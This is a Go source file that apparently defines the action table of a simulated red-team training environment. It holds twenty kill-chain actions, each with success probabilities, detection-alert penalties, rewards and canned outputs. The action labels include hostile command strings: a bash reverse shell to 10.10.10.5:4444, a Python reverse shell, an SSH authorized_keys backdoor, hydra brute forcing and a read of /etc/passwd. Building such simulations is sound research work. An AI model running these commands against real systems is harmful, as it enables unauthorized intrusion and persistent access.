package env

import "redsim/internal/model"

// Category groups actions by kill-chain phase.
type Category string

const (
	CategoryRecon         Category = "reconnaissance"
	CategoryInitialAccess Category = "initial_access"
	CategoryPrivEsc       Category = "privilege_escalation"
	CategoryPersistence   Category = "persistence"
)

// Action identifiers. The ordering mirrors the arsenal layout: 0-4 recon,
// 5-9 initial access, 10-14 privilege escalation, 15-19 persistence/looting.
const (
	ActionPortScan = iota
	ActionSMBEnum
	ActionDirBust
	ActionReadPasswd
	ActionProcessList
	ActionBruteForceSSH
	ActionBufferOverflow
	ActionKernelExploit
	ActionReverseShellBash
	ActionReverseShellPython
	ActionSudoEnum
	ActionSUIDExploit
	ActionFlagCapture
	ActionLinPeas
	ActionDirtyCow
	ActionSSHPersistence
	ActionListener
	ActionWhoAmI
	ActionHistory
	ActionWait
)

// ActionCount mirrors the shared model constant; the table below must fill
// exactly this many slots.
const ActionCount = model.ActionCount

// Reward shaping constants. Milestone bonuses are granted once per episode;
// the time penalty applies to every gated step, and alert increases are
// charged at DetectionPenaltyRate per unit of alert gained.
const (
	TimePenalty          = -1.0
	WastedStepPenalty    = -5.0
	RewardPortDiscovery  = 10.0
	RewardInitialAccess  = 50.0
	RewardReverseShell   = 30.0
	RewardPrivEscPath    = 20.0
	RewardRootEscalation = 100.0
	RewardFlagCapture    = 500.0
	DetectionPenaltyRate = 40.0
)

// ActionSpec is one entry of the closed action table: a prerequisite
// predicate gating the attempt and an effect applied on a successful draw.
type ActionSpec struct {
	ID       int
	Name     string
	Command  string
	Category Category

	// SuccessProb is the Bernoulli success probability of a permitted attempt.
	SuccessProb float64
	// AlertOnSuccess and AlertOnFail are the deterministic alert deltas
	// applied to the episode's alert level. Negative values cool down.
	AlertOnSuccess float64
	AlertOnFail    float64
	// Terminal marks the win action: a successful draw ends the episode.
	Terminal bool

	FailOutput string

	prereq func(s model.EpisodeState) bool
	apply  func(s model.EpisodeState) (model.EpisodeState, float64, string)
}

func always(model.EpisodeState) bool { return true }

// Actions is the fixed table of the twenty arsenal actions, indexed by ID.
var Actions = [ActionCount]ActionSpec{
	{
		ID: ActionPortScan, Name: "port-scan", Command: "nmap -sV target",
		Category: CategoryRecon, SuccessProb: 1.0,
		prereq: always,
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			if s.PortsFound {
				return s, 0, "Ports already scanned."
			}
			s.PortsFound = true
			return s, RewardPortDiscovery, "PORT 22/tcp OPEN (SSH)\nPORT 80/tcp OPEN (HTTP)"
		},
	},
	{
		ID: ActionSMBEnum, Name: "smb-enum", Command: "enum4linux target",
		Category: CategoryRecon, SuccessProb: 1.0, AlertOnSuccess: 0.05,
		prereq: always,
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "SMB shares enumerated. Nothing writable."
		},
	},
	{
		ID: ActionDirBust, Name: "dir-bust", Command: "gobuster dir -u target",
		Category: CategoryRecon, SuccessProb: 1.0, AlertOnSuccess: 0.10,
		prereq: always,
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "/admin (403) /backup (403) /login (200)"
		},
	},
	{
		ID: ActionReadPasswd, Name: "read-passwd", Command: "cat /etc/passwd",
		Category: CategoryRecon, SuccessProb: 1.0,
		prereq: func(s model.EpisodeState) bool { return s.Access >= model.AccessUser },
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:..."
		},
	},
	{
		ID: ActionProcessList, Name: "process-list", Command: "ps aux",
		Category: CategoryRecon, SuccessProb: 1.0,
		prereq: func(s model.EpisodeState) bool { return s.Access >= model.AccessUser },
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "root 1 /sbin/init\nroot 822 /usr/sbin/sshd"
		},
	},
	{
		ID: ActionBruteForceSSH, Name: "ssh-brute-force", Command: "hydra -l admin -P rockyou target ssh",
		Category: CategoryInitialAccess, SuccessProb: 0.4, AlertOnFail: 0.40,
		FailOutput: "[FAIL] Brute force detected!",
		prereq: func(s model.EpisodeState) bool {
			return s.PortsFound && s.Access == model.AccessNone
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			s.Access = model.AccessUser
			return s, RewardInitialAccess, "[SUCCESS] Password found: 'password123'"
		},
	},
	{
		ID: ActionBufferOverflow, Name: "buffer-overflow", Command: "exploit_buffer_overflow",
		Category: CategoryInitialAccess, SuccessProb: 0.25, AlertOnFail: 0.25,
		FailOutput: "Segmentation fault. Service restarted.",
		prereq: func(s model.EpisodeState) bool {
			return s.PortsFound && s.Access == model.AccessNone
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			s.Access = model.AccessUser
			return s, RewardInitialAccess, "Shellcode executed. uid=33(www-data)"
		},
	},
	{
		ID: ActionKernelExploit, Name: "kernel-exploit", Command: "exploit_cve_2025_1234",
		Category: CategoryInitialAccess, SuccessProb: 0.15, AlertOnFail: 0.30,
		FailOutput: "Exploit failed: kernel not vulnerable.",
		prereq: func(s model.EpisodeState) bool {
			return s.PortsFound && s.Access == model.AccessNone
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			s.Access = model.AccessUser
			return s, RewardInitialAccess, "Exploit landed. Unprivileged session opened."
		},
	},
	{
		ID: ActionReverseShellBash, Name: "reverse-shell-bash", Command: "bash -i >& /dev/tcp/10.10.10.5/4444 0>&1",
		Category: CategoryInitialAccess, SuccessProb: 0.9, AlertOnFail: 0.10,
		FailOutput: "Failed to trigger shell.",
		prereq: func(s model.EpisodeState) bool {
			return s.Access >= model.AccessUser && !s.ShellActive
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			s.ShellActive = true
			return s, RewardReverseShell, "Connection received from 10.10.10.5!"
		},
	},
	{
		ID: ActionReverseShellPython, Name: "reverse-shell-python", Command: "python -c 'import socket...'",
		Category: CategoryInitialAccess, SuccessProb: 0.75, AlertOnFail: 0.10,
		FailOutput: "Connection refused.",
		prereq: func(s model.EpisodeState) bool {
			return s.Access >= model.AccessUser && !s.ShellActive
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			s.ShellActive = true
			return s, RewardReverseShell, "Connection received from 10.10.10.5!"
		},
	},
	{
		ID: ActionSudoEnum, Name: "sudo-enum", Command: "sudo -l",
		Category: CategoryPrivEsc, SuccessProb: 1.0,
		prereq: func(s model.EpisodeState) bool {
			return s.ShellActive && s.Access == model.AccessUser
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			if s.VulnFound {
				return s, 0, "Escalation path already known."
			}
			s.VulnFound = true
			return s, RewardPrivEscPath, "User may run /usr/bin/vim as root NOPASSWD"
		},
	},
	{
		ID: ActionSUIDExploit, Name: "suid-exploit", Command: "find / -perm -4000 2>/dev/null",
		Category: CategoryPrivEsc, SuccessProb: 0.75, AlertOnFail: 0.15,
		FailOutput: "Exploit failed.",
		prereq: func(s model.EpisodeState) bool {
			return s.ShellActive && s.VulnFound && s.Access == model.AccessUser
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			s.Access = model.AccessRoot
			return s, RewardRootEscalation, "# whoami\nroot"
		},
	},
	{
		ID: ActionFlagCapture, Name: "flag-capture", Command: "cat /root/flag.txt",
		Category: CategoryPrivEsc, SuccessProb: 1.0, Terminal: true,
		prereq: func(s model.EpisodeState) bool { return s.Access == model.AccessRoot },
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, RewardFlagCapture, "CTF{L1nux_R00t_M4st3r}"
		},
	},
	{
		ID: ActionLinPeas, Name: "linpeas", Command: "linpeas.sh",
		Category: CategoryPrivEsc, SuccessProb: 1.0, AlertOnSuccess: 0.15,
		prereq: func(s model.EpisodeState) bool {
			return s.ShellActive && s.Access == model.AccessUser
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			if s.VulnFound {
				return s, 0, "Escalation path already known."
			}
			s.VulnFound = true
			return s, RewardPrivEscPath, "[+] Writable cron job found: /etc/cron.d/backup"
		},
	},
	{
		ID: ActionDirtyCow, Name: "dirty-cow", Command: "dirty_cow_exploit",
		Category: CategoryPrivEsc, SuccessProb: 0.3, AlertOnSuccess: 0.05, AlertOnFail: 0.20,
		FailOutput: "Race lost. Kernel log entry written.",
		prereq: func(s model.EpisodeState) bool {
			return s.ShellActive && s.Access == model.AccessUser
		},
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			s.Access = model.AccessRoot
			return s, RewardRootEscalation, "# whoami\nroot"
		},
	},
	{
		ID: ActionSSHPersistence, Name: "ssh-persistence", Command: "echo 'ssh-rsa ...' >> ~/.ssh/authorized_keys",
		Category: CategoryPersistence, SuccessProb: 0.9, AlertOnSuccess: 0.05, AlertOnFail: 0.05,
		FailOutput: "Permission denied.",
		prereq: func(s model.EpisodeState) bool { return s.Access >= model.AccessUser },
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "Key installed."
		},
	},
	{
		ID: ActionListener, Name: "listener", Command: "nc -lvnp 4444",
		Category: CategoryPersistence, SuccessProb: 1.0,
		prereq: always,
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "Listening on 0.0.0.0:4444..."
		},
	},
	{
		ID: ActionWhoAmI, Name: "whoami", Command: "whoami",
		Category: CategoryPersistence, SuccessProb: 1.0,
		prereq: func(s model.EpisodeState) bool { return s.ShellActive },
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			if s.Access == model.AccessRoot {
				return s, 0, "root"
			}
			return s, 0, "www-data"
		},
	},
	{
		ID: ActionHistory, Name: "history", Command: "history",
		Category: CategoryPersistence, SuccessProb: 1.0,
		prereq: func(s model.EpisodeState) bool { return s.ShellActive },
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "1 ls\n2 cd /var/www\n3 exit"
		},
	},
	{
		ID: ActionWait, Name: "wait", Command: "sleep 30",
		Category: CategoryPersistence, SuccessProb: 1.0, AlertOnSuccess: -0.05,
		prereq: always,
		apply: func(s model.EpisodeState) (model.EpisodeState, float64, string) {
			return s, 0, "No output."
		},
	},
}

// Lookup returns the action spec for id, reporting whether id is in range.
func Lookup(id int) (ActionSpec, bool) {
	if id < 0 || id >= ActionCount {
		return ActionSpec{}, false
	}
	return Actions[id], true
}
